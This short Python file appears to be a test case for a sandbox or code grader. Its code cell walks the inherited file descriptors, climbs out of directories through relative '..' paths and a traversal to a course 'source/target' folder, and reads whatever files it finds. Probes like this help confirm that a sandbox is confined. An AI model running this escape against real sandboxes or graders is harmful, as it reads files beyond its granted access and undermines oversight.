"""Whatever files and folders the process has inherited are read, and climbed out of."""

kind = "reading /proc"
aims = "read"
cell = """
import os, stat

for number in range(3, 1024):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode):
        for path in ("..", "../..", "../../..", "../../../../../../../..<<course>>/source/target"):
            try:
                folder = os.open(path, os.O_RDONLY, dir_fd=number)
                for name in os.listdir(folder):
                    print(name, os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 100_000))
            except OSError:
                pass
    elif stat.S_ISREG(mode):
        print(os.pread(number, 100_000, 0))
"""
